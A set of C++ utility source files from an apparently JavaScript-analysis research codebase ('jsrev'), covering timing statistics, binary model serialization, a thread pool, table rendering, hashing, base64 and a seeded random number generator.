/// same numbers the local view reports are visible in a metrics export.
///
/// Per-item samples (add) measure the work done; wall-clock samples
/// (add_wall) measure how long the enclosing — possibly parallel — region
/// took, so sum(samples) / wall is the effective parallel speedup of a stage
/// at the configured thread count. reset() zeroes the local view (the
/// registry mirror, being a global cumulative metric, is never reset) — the
/// batch-inference entry points use it so repeated evaluations report the
/// most recent batch instead of double-counting wall time across calls.
class TimingStats {
 public:
  TimingStats() = default;

  /// Registry-mirrored variant: samples also feed the global summaries
  /// `stage_ms{stage=<name>}` and `stage_wall_ms{stage=<name>}`.
  explicit TimingStats(const char* stage)
      : mirror_(obs::metrics().summary("stage_ms", {{"stage", stage}})),
        wall_mirror_(
            obs::metrics().summary("stage_wall_ms", {{"stage", stage}})) {}

  TimingStats(const TimingStats&) = delete;
  TimingStats& operator=(const TimingStats&) = delete;

  void add(double ms) {
    samples_.observe(ms);
    if (mirror_ != nullptr) mirror_->observe(ms);
  }

  /// Records the wall-clock duration of one parallel region of this stage.
  void add_wall(double ms) {
    wall_.observe(ms);
    if (wall_mirror_ != nullptr) wall_mirror_->observe(ms);
  }

  /// Zeroes the local per-item and wall accumulation (mirrors untouched).
  void reset() {
    samples_.reset();
    wall_.reset();
  }

  /// Total wall-clock time of the stage's parallel regions.
  double wall_ms() const { return wall_.sum(); }

  /// Sum of the per-item samples (CPU-work view of the stage).
  double total() const { return samples_.sum(); }

  std::size_t count() const { return samples_.count(); }

  double mean() const { return samples_.mean(); }

  double stddev() const { return samples_.stddev(); }

 private:
  obs::Summary samples_;
  obs::Summary wall_;
  obs::Summary* mirror_ = nullptr;
  obs::Summary* wall_mirror_ = nullptr;
};

}  // namespace jsrev
