// Wall-clock timing helpers used by the per-stage runtime instrumentation
// (Table VIII reproduction).
#pragma once

#include <chrono>
#include <cmath>
#include <cstddef>
#include <vector>

namespace jsrev {

/// Simple stopwatch reporting elapsed milliseconds.
class Timer {
 public:
  Timer() : start_(Clock::now()) {}

  void reset() { start_ = Clock::now(); }

  /// Elapsed time since construction/reset, in milliseconds.
  double elapsed_ms() const {
    return std::chrono::duration<double, std::milli>(Clock::now() - start_)
        .count();
  }

 private:
  using Clock = std::chrono::steady_clock;
  Clock::time_point start_;
};

/// Accumulates timing samples and reports mean/stddev, as Table VIII does.
class TimingStats {
 public:
  void add(double ms) { samples_.push_back(ms); }

  std::size_t count() const { return samples_.size(); }

  double mean() const {
    if (samples_.empty()) return 0.0;
    double s = 0.0;
    for (const double v : samples_) s += v;
    return s / static_cast<double>(samples_.size());
  }

  double stddev() const {
    if (samples_.size() < 2) return 0.0;
    const double m = mean();
    double s = 0.0;
    for (const double v : samples_) s += (v - m) * (v - m);
    return std::sqrt(s / static_cast<double>(samples_.size() - 1));
  }

 private:
  std::vector<double> samples_;
};

}  // namespace jsrev
