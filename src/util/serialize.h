// Minimal binary serialization primitives for model persistence.
//
// Format: little-endian fixed-width integers, length-prefixed strings, and
// raw double arrays, wrapped in a magic+version header by the callers.
// Not meant for cross-architecture portability of trained models — the
// format matches the training machine's double representation, which is the
// common trade-off for local model caches.
#pragma once

#include <cstdint>
#include <istream>
#include <ostream>
#include <stdexcept>
#include <string>
#include <vector>

namespace jsrev::ser {

class FormatError : public std::runtime_error {
 public:
  explicit FormatError(const std::string& what) : std::runtime_error(what) {}
};

/// A model-persistence failure localized to a named section of the trained
/// model — thrown by both the legacy stream loader (offset = where the
/// section started in the stream) and the JSRM artifact loader (offset =
/// exact byte offset in the mapped file). Derives from FormatError so
/// callers that only care about "malformed model" keep working.
class ModelFormatError : public FormatError {
 public:
  ModelFormatError(std::string section, std::uint64_t offset,
                   const std::string& detail)
      : FormatError("model section '" + section + "' at byte " +
                    std::to_string(offset) + ": " + detail),
        section_(std::move(section)),
        offset_(offset) {}

  const std::string& section() const noexcept { return section_; }
  std::uint64_t offset() const noexcept { return offset_; }

 private:
  std::string section_;
  std::uint64_t offset_;
};

/// Runs `fn` with section context: any FormatError escaping it is rethrown
/// as a ModelFormatError carrying `section` and the stream position captured
/// on entry (after a failed read the stream's own position is unusable).
template <typename Fn>
auto with_section(std::istream& in, const char* section, Fn&& fn) {
  const auto pos = in.tellg();
  const std::uint64_t offset =
      pos == std::istream::pos_type(-1) ? 0 : static_cast<std::uint64_t>(pos);
  try {
    return std::forward<Fn>(fn)();
  } catch (const ModelFormatError&) {
    throw;
  } catch (const FormatError& e) {
    throw ModelFormatError(section, offset, e.what());
  }
}

inline void write_u64(std::ostream& out, std::uint64_t v) {
  out.write(reinterpret_cast<const char*>(&v), sizeof v);
}

inline std::uint64_t read_u64(std::istream& in) {
  std::uint64_t v = 0;
  in.read(reinterpret_cast<char*>(&v), sizeof v);
  if (!in) throw FormatError("truncated stream (u64)");
  return v;
}

inline void write_i64(std::ostream& out, std::int64_t v) {
  write_u64(out, static_cast<std::uint64_t>(v));
}

inline std::int64_t read_i64(std::istream& in) {
  return static_cast<std::int64_t>(read_u64(in));
}

inline void write_f64(std::ostream& out, double v) {
  out.write(reinterpret_cast<const char*>(&v), sizeof v);
}

inline double read_f64(std::istream& in) {
  double v = 0;
  in.read(reinterpret_cast<char*>(&v), sizeof v);
  if (!in) throw FormatError("truncated stream (f64)");
  return v;
}

inline void write_string(std::ostream& out, const std::string& s) {
  write_u64(out, s.size());
  out.write(s.data(), static_cast<std::streamsize>(s.size()));
}

inline std::string read_string(std::istream& in) {
  const std::uint64_t n = read_u64(in);
  if (n > (1ULL << 32)) throw FormatError("implausible string length");
  std::string s(n, '\0');
  in.read(s.data(), static_cast<std::streamsize>(n));
  if (!in) throw FormatError("truncated stream (string)");
  return s;
}

inline void write_doubles(std::ostream& out, const std::vector<double>& v) {
  write_u64(out, v.size());
  out.write(reinterpret_cast<const char*>(v.data()),
            static_cast<std::streamsize>(v.size() * sizeof(double)));
}

inline std::vector<double> read_doubles(std::istream& in) {
  const std::uint64_t n = read_u64(in);
  if (n > (1ULL << 30)) throw FormatError("implausible array length");
  std::vector<double> v(n);
  in.read(reinterpret_cast<char*>(v.data()),
          static_cast<std::streamsize>(n * sizeof(double)));
  if (!in) throw FormatError("truncated stream (doubles)");
  return v;
}

/// Writes/checks a section tag — catches misaligned streams early.
inline void write_tag(std::ostream& out, const char (&tag)[5]) {
  out.write(tag, 4);
}

inline void expect_tag(std::istream& in, const char (&tag)[5]) {
  char buf[4];
  in.read(buf, 4);
  if (!in || std::string(buf, 4) != std::string(tag, 4)) {
    throw FormatError(std::string("expected section '") + tag + "'");
  }
}

}  // namespace jsrev::ser
