#include "util/thread_pool.h"

#include <algorithm>
#include <atomic>
#include <memory>

namespace jsrev {

ThreadPool::ThreadPool(std::size_t threads) {
  if (threads == 0) {
    threads = std::max<std::size_t>(1, std::thread::hardware_concurrency());
  }
  workers_.reserve(threads);
  for (std::size_t i = 0; i < threads; ++i) {
    workers_.emplace_back([this] { worker_loop(); });
  }
}

ThreadPool::~ThreadPool() {
  {
    std::lock_guard<std::mutex> lock(mu_);
    stopping_ = true;
  }
  task_cv_.notify_all();
  for (auto& w : workers_) w.join();
}

void ThreadPool::submit(std::function<void()> task) {
  {
    std::lock_guard<std::mutex> lock(mu_);
    tasks_.push(std::move(task));
    ++in_flight_;
  }
  task_cv_.notify_one();
}

void ThreadPool::wait_idle() {
  std::unique_lock<std::mutex> lock(mu_);
  idle_cv_.wait(lock, [this] { return in_flight_ == 0; });
}

void ThreadPool::parallel_for(std::size_t n,
                              const std::function<void(std::size_t)>& fn) {
  if (n == 0) return;
  // Dynamic scheduling over a shared counter: items can have very uneven
  // cost (file sizes vary by orders of magnitude).
  auto next = std::make_shared<std::atomic<std::size_t>>(0);
  const std::size_t shards = std::min(n, workers_.size());
  for (std::size_t s = 0; s < shards; ++s) {
    submit([next, n, &fn] {
      while (true) {
        const std::size_t i = next->fetch_add(1);
        if (i >= n) return;
        fn(i);
      }
    });
  }
  wait_idle();
}

void ThreadPool::worker_loop() {
  while (true) {
    std::function<void()> task;
    {
      std::unique_lock<std::mutex> lock(mu_);
      task_cv_.wait(lock, [this] { return stopping_ || !tasks_.empty(); });
      if (tasks_.empty()) return;  // stopping_ and drained
      task = std::move(tasks_.front());
      tasks_.pop();
    }
    task();
    {
      std::lock_guard<std::mutex> lock(mu_);
      --in_flight_;
      if (in_flight_ == 0) idle_cv_.notify_all();
    }
  }
}

}  // namespace jsrev
