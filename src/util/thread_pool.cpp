#include "util/thread_pool.h"

#include <algorithm>
#include <atomic>
#include <chrono>
#include <memory>
#include <string>
#include <utility>

#include "obs/metrics.h"

namespace jsrev {

namespace {

// Pool telemetry. Everything here is schedule-dependent by nature (queue
// depths and task counts vary with the parallel width and the interleaving),
// so it is excluded from the deterministic metrics export.
struct PoolMetrics {
  obs::Counter* tasks;
  obs::Gauge* queue_depth;
  obs::Summary* task_wait_ms;
  obs::Summary* task_run_ms;

  static PoolMetrics& get() {
    static PoolMetrics m = [] {
      PoolMetrics pm;
      pm.tasks = obs::metrics().counter("threadpool.tasks", {},
                                        obs::kScheduleDependent);
      pm.queue_depth = obs::metrics().gauge("threadpool.queue_depth", {},
                                            obs::kScheduleDependent);
      pm.task_wait_ms = obs::metrics().summary(
          "threadpool.task_wait_ms", {}, obs::kScheduleDependentMillis);
      pm.task_run_ms = obs::metrics().summary(
          "threadpool.task_run_ms", {}, obs::kScheduleDependentMillis);
      return pm;
    }();
    return m;
  }
};

double now_ms() {
  return std::chrono::duration<double, std::milli>(
             std::chrono::steady_clock::now().time_since_epoch())
      .count();
}

}  // namespace

ThreadPool::ThreadPool(std::size_t threads) {
  if (threads == 0) {
    threads = std::max<std::size_t>(1, std::thread::hardware_concurrency());
  }
  workers_.reserve(threads);
  for (std::size_t i = 0; i < threads; ++i) {
    workers_.emplace_back([this, i] { worker_loop(i); });
  }
}

ThreadPool::~ThreadPool() {
  {
    std::lock_guard<std::mutex> lock(mu_);
    stopping_ = true;
  }
  task_cv_.notify_all();
  for (auto& w : workers_) w.join();
}

void ThreadPool::submit(std::function<void()> task) {
  PoolMetrics& pm = PoolMetrics::get();
  pm.tasks->add();
  {
    std::lock_guard<std::mutex> lock(mu_);
    tasks_.push(Task{std::move(task),
                     obs::metrics_enabled() ? now_ms() : 0.0});
    ++in_flight_;
    pm.queue_depth->set(static_cast<std::int64_t>(tasks_.size()));
  }
  task_cv_.notify_one();
}

void ThreadPool::wait_idle() {
  std::exception_ptr error;
  {
    std::unique_lock<std::mutex> lock(mu_);
    idle_cv_.wait(lock, [this] { return in_flight_ == 0; });
    error = std::exchange(pending_error_, nullptr);
  }
  if (error) std::rethrow_exception(error);
}

void ThreadPool::parallel_for(std::size_t n,
                              const std::function<void(std::size_t)>& fn,
                              std::size_t max_workers) {
  if (n == 0) return;
  std::size_t width = workers_.size();
  if (max_workers > 0) width = std::min(width, max_workers);
  if (width <= 1 || n < 2) {
    for (std::size_t i = 0; i < n; ++i) fn(i);
    return;
  }

  // Block-partition into ~4 chunks per worker: coarse enough that submit
  // overhead is negligible even for tiny work items, fine enough that uneven
  // item costs (file sizes vary by orders of magnitude) still balance via
  // dynamic chunk claiming.
  const std::size_t target_chunks = std::min(n, width * 4);
  const std::size_t chunk = (n + target_chunks - 1) / target_chunks;
  const std::size_t n_chunks = (n + chunk - 1) / chunk;

  struct SharedState {
    std::atomic<std::size_t> next_chunk{0};
    std::mutex error_mu;
    std::exception_ptr error;
  };
  auto state = std::make_shared<SharedState>();

  const std::size_t runners = std::min(width, n_chunks);
  for (std::size_t s = 0; s < runners; ++s) {
    submit([state, n, chunk, n_chunks, &fn] {
      while (true) {
        const std::size_t c = state->next_chunk.fetch_add(1);
        if (c >= n_chunks) return;
        const std::size_t lo = c * chunk;
        const std::size_t hi = std::min(n, lo + chunk);
        try {
          for (std::size_t i = lo; i < hi; ++i) fn(i);
        } catch (...) {
          {
            std::lock_guard<std::mutex> lock(state->error_mu);
            if (!state->error) state->error = std::current_exception();
          }
          // Abandon unstarted chunks; peers drain on their next claim.
          state->next_chunk.store(n_chunks);
          return;
        }
      }
    });
  }
  wait_idle();
  if (state->error) std::rethrow_exception(state->error);
}

void ThreadPool::worker_loop(std::size_t worker_index) {
  // Per-worker utilization: busy milliseconds accumulated under a
  // worker-labeled summary, so a metrics export shows how evenly the pool's
  // load spread.
  obs::Summary* busy_ms = obs::metrics().summary(
      "threadpool.worker_busy_ms", {{"worker", std::to_string(worker_index)}},
      obs::kScheduleDependentMillis);

  while (true) {
    Task task;
    {
      std::unique_lock<std::mutex> lock(mu_);
      task_cv_.wait(lock, [this] { return stopping_ || !tasks_.empty(); });
      if (tasks_.empty()) return;  // stopping_ and drained
      task = std::move(tasks_.front());
      tasks_.pop();
      PoolMetrics::get().queue_depth->set(
          static_cast<std::int64_t>(tasks_.size()));
    }
    const bool timed = obs::metrics_enabled() && task.enqueue_ms != 0.0;
    double start_ms = 0.0;
    if (timed) {
      start_ms = now_ms();
      PoolMetrics::get().task_wait_ms->observe(start_ms - task.enqueue_ms);
    }
    try {
      task.fn();
    } catch (...) {
      std::lock_guard<std::mutex> lock(mu_);
      if (!pending_error_) pending_error_ = std::current_exception();
    }
    if (timed) {
      const double run = now_ms() - start_ms;
      PoolMetrics::get().task_run_ms->observe(run);
      busy_ms->observe(run);
    }
    {
      std::lock_guard<std::mutex> lock(mu_);
      --in_flight_;
      if (in_flight_ == 0) idle_cv_.notify_all();
    }
  }
}

std::size_t resolve_threads(std::size_t threads) {
  if (threads != 0) return threads;
  return std::max<std::size_t>(1, std::thread::hardware_concurrency());
}

ThreadPool& shared_pool() {
  static ThreadPool pool(
      std::max<std::size_t>(8, std::thread::hardware_concurrency()));
  return pool;
}

void parallel_for_threads(std::size_t threads, std::size_t n,
                          const std::function<void(std::size_t)>& fn) {
  const std::size_t width = resolve_threads(threads);
  if (width <= 1 || n < 2) {
    for (std::size_t i = 0; i < n; ++i) fn(i);
    return;
  }
  shared_pool().parallel_for(n, fn, width);
}

}  // namespace jsrev
