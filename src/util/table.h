// Console table rendering for bench output (paper tables/figures).
#pragma once

#include <string>
#include <vector>

namespace jsrev {

/// Builds fixed-width ASCII tables resembling the paper's tables.
class Table {
 public:
  explicit Table(std::vector<std::string> header);

  void add_row(std::vector<std::string> row);

  /// Renders the table with column alignment and a header separator.
  std::string to_string() const;

  /// Renders rows as CSV (header first) for machine post-processing.
  std::string to_csv() const;

 private:
  std::vector<std::string> header_;
  std::vector<std::vector<std::string>> rows_;
};

}  // namespace jsrev
