// Small string helpers shared across the library.
#pragma once

#include <string>
#include <string_view>
#include <vector>

namespace jsrev {

/// Splits `s` on `sep`, keeping empty fields.
std::vector<std::string> split(std::string_view s, char sep);

/// Joins `parts` with `sep` between elements.
std::string join(const std::vector<std::string>& parts, std::string_view sep);

/// Returns `s` with leading/trailing ASCII whitespace removed.
std::string_view trim(std::string_view s);

/// True if `s` starts with / ends with the given prefix/suffix.
bool starts_with(std::string_view s, std::string_view prefix);
bool ends_with(std::string_view s, std::string_view suffix);

/// Replaces every occurrence of `from` with `to`.
std::string replace_all(std::string s, std::string_view from,
                        std::string_view to);

/// Formats a double with `prec` digits after the decimal point.
std::string fmt(double v, int prec = 1);

/// Escapes a string for inclusion in a double-quoted JS string literal.
std::string js_escape(std::string_view s);

}  // namespace jsrev
