// Small string helpers shared across the library.
#pragma once

#include <cstddef>
#include <cstdint>
#include <string>
#include <string_view>
#include <vector>

namespace jsrev {

/// Splits `s` on `sep`, keeping empty fields.
std::vector<std::string> split(std::string_view s, char sep);

/// Joins `parts` with `sep` between elements.
std::string join(const std::vector<std::string>& parts, std::string_view sep);

/// Returns `s` with leading/trailing ASCII whitespace removed.
std::string_view trim(std::string_view s);

/// True if `s` starts with / ends with the given prefix/suffix.
bool starts_with(std::string_view s, std::string_view prefix);
bool ends_with(std::string_view s, std::string_view suffix);

/// Replaces every occurrence of `from` with `to`.
std::string replace_all(std::string s, std::string_view from,
                        std::string_view to);

/// Formats a double with `prec` digits after the decimal point.
std::string fmt(double v, int prec = 1);

/// Escapes a string for inclusion in a double-quoted JS string literal.
std::string js_escape(std::string_view s);

/// Checked decimal parse for CLI arguments and other untrusted numeric text:
/// `s` must be entirely ASCII digits (no sign, no whitespace, no trailing
/// garbage) and fit the target type, else returns false and leaves `*out`
/// untouched. Unlike std::stoul this never throws, and unlike strtoull it
/// never silently accepts "12abc" or returns 0 for "abc".
bool parse_u64(std::string_view s, std::uint64_t* out);

/// parse_u64 narrowed to std::size_t (rejects values that do not fit).
bool parse_size(std::string_view s, std::size_t* out);

/// parse_u64 narrowed to a positive int (rejects 0 and values > INT_MAX);
/// the shape every "count"-flavored CLI flag wants.
bool parse_positive_int(std::string_view s, int* out);

}  // namespace jsrev
