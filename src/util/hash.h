// FNV-1a hashing utilities used for feature hashing and vocabulary keys.
#pragma once

#include <cstdint>
#include <string_view>

namespace jsrev {

/// FNV-1a basis for incremental hashing (fnv1a64_begin/fnv1a64_step chains
/// produce the hash fnv1a64 would give over the concatenated bytes).
constexpr std::uint64_t fnv1a64_begin() noexcept {
  return 0xcbf29ce484222325ULL;
}

/// Folds more bytes into a running FNV-1a hash.
constexpr std::uint64_t fnv1a64_step(std::uint64_t h,
                                     std::string_view s) noexcept {
  for (const char c : s) {
    h ^= static_cast<std::uint8_t>(c);
    h *= 0x100000001b3ULL;
  }
  return h;
}

/// 64-bit FNV-1a hash of a byte string. Deterministic across platforms.
constexpr std::uint64_t fnv1a64(std::string_view s) noexcept {
  return fnv1a64_step(fnv1a64_begin(), s);
}

/// Mixes an existing hash with another value (for hashing tuples).
constexpr std::uint64_t hash_combine(std::uint64_t seed,
                                     std::uint64_t value) noexcept {
  // boost::hash_combine style mixing adapted to 64 bits.
  seed ^= value + 0x9e3779b97f4a7c15ULL + (seed << 12) + (seed >> 4);
  return seed;
}

}  // namespace jsrev
