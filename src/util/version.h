// Repository-wide version string, surfaced by the admin plane
// (jsr_build_info, /statusz) so every scrape self-describes the replica.
// Bump the minor component once per landed growth step.
#pragma once

namespace jsrev {

inline constexpr const char* kVersionString = "0.10.0";

}  // namespace jsrev
