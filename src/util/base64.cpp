#include "util/base64.h"

#include <array>
#include <cstdint>

namespace jsrev {
namespace {

constexpr char kAlphabet[] =
    "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";

std::array<std::int8_t, 256> make_decode_table() {
  std::array<std::int8_t, 256> t{};
  t.fill(-1);
  for (int i = 0; i < 64; ++i) {
    t[static_cast<unsigned char>(kAlphabet[i])] = static_cast<std::int8_t>(i);
  }
  return t;
}

}  // namespace

std::string base64_encode(std::string_view data) {
  std::string out;
  out.reserve((data.size() + 2) / 3 * 4);
  std::size_t i = 0;
  while (i + 3 <= data.size()) {
    const std::uint32_t n = (static_cast<std::uint8_t>(data[i]) << 16) |
                            (static_cast<std::uint8_t>(data[i + 1]) << 8) |
                            static_cast<std::uint8_t>(data[i + 2]);
    out += kAlphabet[(n >> 18) & 63];
    out += kAlphabet[(n >> 12) & 63];
    out += kAlphabet[(n >> 6) & 63];
    out += kAlphabet[n & 63];
    i += 3;
  }
  const std::size_t rest = data.size() - i;
  if (rest == 1) {
    const std::uint32_t n = static_cast<std::uint8_t>(data[i]) << 16;
    out += kAlphabet[(n >> 18) & 63];
    out += kAlphabet[(n >> 12) & 63];
    out += "==";
  } else if (rest == 2) {
    const std::uint32_t n = (static_cast<std::uint8_t>(data[i]) << 16) |
                            (static_cast<std::uint8_t>(data[i + 1]) << 8);
    out += kAlphabet[(n >> 18) & 63];
    out += kAlphabet[(n >> 12) & 63];
    out += kAlphabet[(n >> 6) & 63];
    out += '=';
  }
  return out;
}

std::string base64_decode(std::string_view data) {
  static const std::array<std::int8_t, 256> table = make_decode_table();
  std::string out;
  out.reserve(data.size() / 4 * 3);
  std::uint32_t buffer = 0;
  int bits = 0;
  for (const char c : data) {
    if (c == '=' || c == '\n' || c == '\r' || c == ' ') continue;
    const std::int8_t v = table[static_cast<unsigned char>(c)];
    if (v < 0) break;
    buffer = (buffer << 6) | static_cast<std::uint32_t>(v);
    bits += 6;
    if (bits >= 8) {
      bits -= 8;
      out += static_cast<char>((buffer >> bits) & 0xff);
    }
  }
  return out;
}

std::optional<std::string> base64_decode_strict(std::string_view data) {
  static const std::array<std::int8_t, 256> table = make_decode_table();
  // Split off final-quantum padding; '=' is legal nowhere else.
  std::size_t len = data.size();
  std::size_t pad = 0;
  while (len > 0 && data[len - 1] == '=' && pad < 2) {
    --len;
    ++pad;
  }
  if (pad > 0 && (len + pad) % 4 != 0) return std::nullopt;
  const std::size_t rem = len % 4;
  if (rem == 1) return std::nullopt;  // a lone 6-bit char encodes nothing
  if (pad > 0 && rem != 0 && rem + pad != 4) return std::nullopt;
  std::string out;
  out.reserve(len / 4 * 3 + 2);
  std::uint32_t buffer = 0;
  int bits = 0;
  for (std::size_t i = 0; i < len; ++i) {
    const std::int8_t v = table[static_cast<unsigned char>(data[i])];
    if (v < 0) return std::nullopt;  // '=' mid-stream lands here too
    buffer = (buffer << 6) | static_cast<std::uint32_t>(v);
    bits += 6;
    if (bits >= 8) {
      bits -= 8;
      out += static_cast<char>((buffer >> bits) & 0xff);
    }
  }
  // A partial final quantum leaves 2 or 4 unused bits; they must be zero or
  // the input does not round-trip (atob would keep them, we would drop them).
  if (bits > 0 && (buffer & ((1u << bits) - 1)) != 0) return std::nullopt;
  return out;
}

}  // namespace jsrev
