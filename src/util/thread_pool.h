// Fixed-size thread pool with a parallel-for helper.
//
// Used to parallelize the per-item hot loops of the pipeline (per-file
// feature extraction, FastABOD scoring, k-means assignment, per-tree forest
// training) while keeping every result bit-identical to the serial path:
// work items are indexed, writes are disjoint per index, and any per-item
// randomness is derived from the item index — so the schedule cannot change
// the outcome.
#pragma once

#include <condition_variable>
#include <cstddef>
#include <exception>
#include <functional>
#include <mutex>
#include <queue>
#include <thread>
#include <vector>

namespace jsrev {

class ThreadPool {
 public:
  /// Creates `threads` workers; 0 means hardware_concurrency (min 1).
  explicit ThreadPool(std::size_t threads = 0);
  ~ThreadPool();

  ThreadPool(const ThreadPool&) = delete;
  ThreadPool& operator=(const ThreadPool&) = delete;

  std::size_t size() const { return workers_.size(); }

  /// Enqueues a task for asynchronous execution. A task that throws does not
  /// kill its worker or deadlock the pool: the first exception is captured
  /// and rethrown by the next wait_idle().
  void submit(std::function<void()> task);

  /// Blocks until every submitted task has finished, then rethrows the first
  /// exception (if any) thrown by a task submitted via submit().
  void wait_idle();

  /// Runs fn(i) for i in [0, n), distributing across the pool and blocking
  /// until all iterations complete. fn must be safe to call concurrently.
  /// Indices are block-partitioned into ~4 chunks per worker and the chunks
  /// are claimed dynamically, so uneven item costs balance without paying
  /// per-index scheduling overhead. `max_workers` caps the parallel width
  /// (0 = all workers); width 1 runs inline on the calling thread.
  /// If fn throws, the first exception is rethrown here and remaining
  /// unstarted chunks are abandoned.
  void parallel_for(std::size_t n, const std::function<void(std::size_t)>& fn,
                    std::size_t max_workers = 0);

 private:
  /// A queued task plus its enqueue timestamp (0 when telemetry was off at
  /// submit time), feeding the threadpool.task_wait_ms metric.
  struct Task {
    std::function<void()> fn;
    double enqueue_ms = 0.0;
  };

  void worker_loop(std::size_t worker_index);

  std::vector<std::thread> workers_;
  std::queue<Task> tasks_;
  std::mutex mu_;
  std::condition_variable task_cv_;
  std::condition_variable idle_cv_;
  std::size_t in_flight_ = 0;
  bool stopping_ = false;
  std::exception_ptr pending_error_;
};

/// Resolves a `threads` config knob: 0 = hardware_concurrency (min 1).
std::size_t resolve_threads(std::size_t threads);

/// Process-wide pool shared by all pipeline stages, created on first use.
/// Sized at max(hardware_concurrency, 8) so explicit thread counts above the
/// core count still exercise real concurrency; callers bound their width per
/// call via parallel_for's max_workers instead of resizing the pool.
ThreadPool& shared_pool();

/// Convenience used by the pipeline: runs fn(i) for i in [0, n) with the
/// given configured width (0 = hardware concurrency). Width 1 — the exact
/// legacy serial path — loops inline without touching the pool.
void parallel_for_threads(std::size_t threads, std::size_t n,
                          const std::function<void(std::size_t)>& fn);

}  // namespace jsrev
