// Fixed-size thread pool with a parallel-for helper.
//
// Used to parallelize per-file feature extraction across a corpus while
// keeping each file's processing deterministic (work items are indexed, and
// any per-item randomness is derived from the item index).
#pragma once

#include <condition_variable>
#include <cstddef>
#include <functional>
#include <mutex>
#include <queue>
#include <thread>
#include <vector>

namespace jsrev {

class ThreadPool {
 public:
  /// Creates `threads` workers; 0 means hardware_concurrency (min 1).
  explicit ThreadPool(std::size_t threads = 0);
  ~ThreadPool();

  ThreadPool(const ThreadPool&) = delete;
  ThreadPool& operator=(const ThreadPool&) = delete;

  std::size_t size() const { return workers_.size(); }

  /// Enqueues a task for asynchronous execution.
  void submit(std::function<void()> task);

  /// Blocks until every submitted task has finished.
  void wait_idle();

  /// Runs fn(i) for i in [0, n), distributing across the pool and blocking
  /// until all iterations complete. fn must be safe to call concurrently.
  void parallel_for(std::size_t n, const std::function<void(std::size_t)>& fn);

 private:
  void worker_loop();

  std::vector<std::thread> workers_;
  std::queue<std::function<void()>> tasks_;
  std::mutex mu_;
  std::condition_variable task_cv_;
  std::condition_variable idle_cv_;
  std::size_t in_flight_ = 0;
  bool stopping_ = false;
};

}  // namespace jsrev
