// Base64 encoding/decoding, used by the string-array obfuscator model.
#pragma once

#include <string>
#include <string_view>

namespace jsrev {

/// Standard (RFC 4648) base64 with padding.
std::string base64_encode(std::string_view data);

/// Decodes base64; ignores whitespace. Invalid characters terminate decoding.
std::string base64_decode(std::string_view data);

}  // namespace jsrev
