// Base64 encoding/decoding, used by the string-array obfuscator model and
// the deobfuscator's atob() constant folding.
#pragma once

#include <optional>
#include <string>
#include <string_view>

namespace jsrev {

/// Standard (RFC 4648) base64 with padding.
std::string base64_encode(std::string_view data);

/// Lenient decode: ignores whitespace and '=' anywhere, stops silently at
/// the first invalid character, drops trailing bits. Intentionally tolerant
/// — only for inputs this library encoded itself (round-trip tests, known
/// well-formed tables). Anything that models a JS runtime's atob() must use
/// base64_decode_strict: a real engine throws InvalidCharacterError where
/// this function quietly truncates.
std::string base64_decode(std::string_view data);

/// Strict decode: the whole input must be well-formed base64 or the result
/// is nullopt. Rejected inputs: any character outside the RFC 4648 alphabet
/// (whitespace included), '=' anywhere but as final-quantum padding, a final
/// quantum of one encoded character, and non-zero unused bits in the final
/// quantum. Unpadded final quanta of 2 or 3 characters are accepted.
std::optional<std::string> base64_decode_strict(std::string_view data);

}  // namespace jsrev
