#include "util/table.h"

#include <algorithm>

namespace jsrev {

Table::Table(std::vector<std::string> header) : header_(std::move(header)) {}

void Table::add_row(std::vector<std::string> row) {
  row.resize(header_.size());
  rows_.push_back(std::move(row));
}

std::string Table::to_string() const {
  std::vector<std::size_t> width(header_.size());
  for (std::size_t c = 0; c < header_.size(); ++c) width[c] = header_[c].size();
  for (const auto& row : rows_) {
    for (std::size_t c = 0; c < row.size(); ++c) {
      width[c] = std::max(width[c], row[c].size());
    }
  }

  auto render_row = [&](const std::vector<std::string>& row) {
    static const std::string kEmpty;
    std::string line = "|";
    for (std::size_t c = 0; c < header_.size(); ++c) {
      // Binding the conditional to a const& would copy row[c] into a
      // lifetime-extended temporary on every cell; reference kEmpty instead.
      const std::string& cell = c < row.size() ? row[c] : kEmpty;
      line += ' ';
      line += cell;
      line.append(width[c] - cell.size() + 1, ' ');
      line += '|';
    }
    line += '\n';
    return line;
  };

  std::string sep = "+";
  for (const std::size_t w : width) {
    sep.append(w + 2, '-');
    sep += '+';
  }
  sep += '\n';

  std::string out = sep + render_row(header_) + sep;
  for (const auto& row : rows_) out += render_row(row);
  out += sep;
  return out;
}

std::string Table::to_csv() const {
  auto render = [](const std::vector<std::string>& row) {
    std::string line;
    for (std::size_t c = 0; c < row.size(); ++c) {
      if (c != 0) line += ',';
      line += row[c];
    }
    line += '\n';
    return line;
  };
  std::string out = render(header_);
  for (const auto& row : rows_) out += render(row);
  return out;
}

}  // namespace jsrev
