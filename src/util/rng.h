// Deterministic, seedable random number generation.
//
// Every stochastic component in the library (dataset generation, model
// initialization, bootstrap sampling, obfuscator choices) takes an explicit
// Rng so experiments are reproducible run-to-run.
#pragma once

#include <cstdint>
#include <limits>
#include <vector>

namespace jsrev {

/// xoshiro256** PRNG seeded via splitmix64. Satisfies UniformRandomBitGenerator.
class Rng {
 public:
  using result_type = std::uint64_t;

  explicit Rng(std::uint64_t seed = 0x9e3779b97f4a7c15ULL) noexcept {
    // splitmix64 expansion of the seed into the full state.
    std::uint64_t x = seed;
    for (auto& word : state_) {
      x += 0x9e3779b97f4a7c15ULL;
      std::uint64_t z = x;
      z = (z ^ (z >> 30)) * 0xbf58476d1ce4e5b9ULL;
      z = (z ^ (z >> 27)) * 0x94d049bb133111ebULL;
      word = z ^ (z >> 31);
    }
  }

  static constexpr result_type min() noexcept { return 0; }
  static constexpr result_type max() noexcept {
    return std::numeric_limits<result_type>::max();
  }

  result_type operator()() noexcept {
    const std::uint64_t result = rotl(state_[1] * 5, 7) * 9;
    const std::uint64_t t = state_[1] << 17;
    state_[2] ^= state_[0];
    state_[3] ^= state_[1];
    state_[1] ^= state_[2];
    state_[0] ^= state_[3];
    state_[2] ^= t;
    state_[3] = rotl(state_[3], 45);
    return result;
  }

  /// Uniform integer in [0, n). Requires n > 0.
  std::uint64_t below(std::uint64_t n) noexcept {
    // Lemire's nearly-divisionless bounded generation (bias negligible here).
    return static_cast<std::uint64_t>(
        (static_cast<unsigned __int128>((*this)()) * n) >> 64);
  }

  /// Uniform integer in [lo, hi] inclusive.
  std::int64_t between(std::int64_t lo, std::int64_t hi) noexcept {
    return lo + static_cast<std::int64_t>(
                    below(static_cast<std::uint64_t>(hi - lo + 1)));
  }

